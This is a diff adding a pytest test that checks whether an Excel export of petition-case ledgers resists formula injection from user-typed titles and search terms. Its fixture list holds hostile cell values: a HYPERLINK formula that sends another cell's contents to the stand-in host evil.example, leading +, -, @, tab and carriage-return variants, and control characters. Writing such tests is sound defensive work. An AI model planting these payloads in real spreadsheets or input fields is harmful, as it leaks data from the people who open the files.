@@ -172,3 +172,44 @@ def test_each_page_links_to_the_export_with_its_query_string(client, login, seed
 
     assert 'href="/staff/ledgers/assigned/export.xlsx?status=assigned&amp;sort=-code"' in html
     assert "导出Excel" in html
+
+
+# --- what petitioners typed cannot arm or break the workbook -----------------------------------------------------
+HOSTILE_TITLES = {
+    "formula": '=HYPERLINK("http://evil.example/?d="&B2,"点我")',
+    "plus": "+1+2 拖欠工资",
+    "minus": "-3+4 拖欠工资",
+    "at": "@SUM(1,2) 拖欠工资",
+    "tab": "\t=1+1 拖欠工资",
+    "cr": "\r=1+1 拖欠工资",
+    "vertical tab": "拖欠\x0b工资",
+    "controls": "拖欠\x00\x01\x08\x0c\x1f工资\ufffe\uffff",
+}
+
+
+def test_no_cell_of_an_export_is_a_formula_and_hostile_titles_come_back_as_typed(client, login, seed):
+    codes = seed(
+        lambda w: {
+            key: make_case(w, Status.ASSIGNED, title=title, commit=False).tracking_code
+            for key, title in HOSTILE_TITLES.items()
+        }
+    )
+    login("clerk")
+
+    # The search term is typed by staff and lands in the notes sheet: it must not arm that sheet either.
+    for url in ("/staff/ledgers/assigned/export.xlsx", "/staff/ledgers/assigned/export.xlsx?q=%3D1%2B1"):
+        _, wb = download(client, url)
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    _, wb = download(client, "/staff/ledgers/assigned/export.xlsx")
+    titles = {row[0].value: row[1] for row in wb.worksheets[0].iter_rows(min_row=2)}
+    for key, title in HOSTILE_TITLES.items():
+        cell = titles[codes[key]]
+        assert cell.data_type == "s", key
+        if key in ("vertical tab", "controls"):
+            assert cell.value == "拖欠工资", key  # what XML cannot carry is dropped, the rest kept
+        else:
+            assert cell.value == title.strip(), key  # registration trims the title
+            assert cell.quotePrefix, key  # stays text when someone edits the cell in Excel
